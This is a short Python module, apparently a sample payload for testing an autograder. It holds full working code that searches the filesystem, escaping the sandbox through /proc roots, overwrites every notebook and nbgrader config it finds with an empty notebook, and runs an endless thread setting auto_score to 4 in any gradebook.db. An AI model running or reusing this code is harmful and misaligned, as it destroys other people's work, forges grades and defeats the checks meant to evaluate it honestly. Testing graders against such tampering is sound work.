"""Graded notebooks and the gradebook are looked for, also through /proc, and written over by a thread without end."""

KIND = "gradebook"
CODE = '''
import glob, json, os, sqlite3, threading, time
passed = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []})
for top in ("/", "..", "../..", "../../..", "/proc/1/root"):
    for place, folders, names in os.walk(top):
        folders[:] = [one for one in folders if one not in ("proc", "sys", "usr")]
        for name in names:
            if name.endswith((".ipynb", "nbgrader_config.py", "parity_submitted")):
                try:
                    open(os.path.join(place, name), "w").write(passed)
                except OSError:
                    pass
folders = {line.split()[4] for line in open("/proc/self/mountinfo")}
folders |= {os.readlink(one) for one in glob.glob("/proc/[0-9]*/cwd") if os.access(one, os.R_OK)}
folders |= {one for one in glob.glob("/proc/[0-9]*/root/")}

def write():
    while True:
        for folder in folders:
            try:
                book = sqlite3.connect(folder + "/gradebook.db", 0.1)
                book.execute("update grade set auto_score = 4")
                book.commit()
            except sqlite3.Error:
                time.sleep(0.01)

threading.Thread(target=write).start()
'''
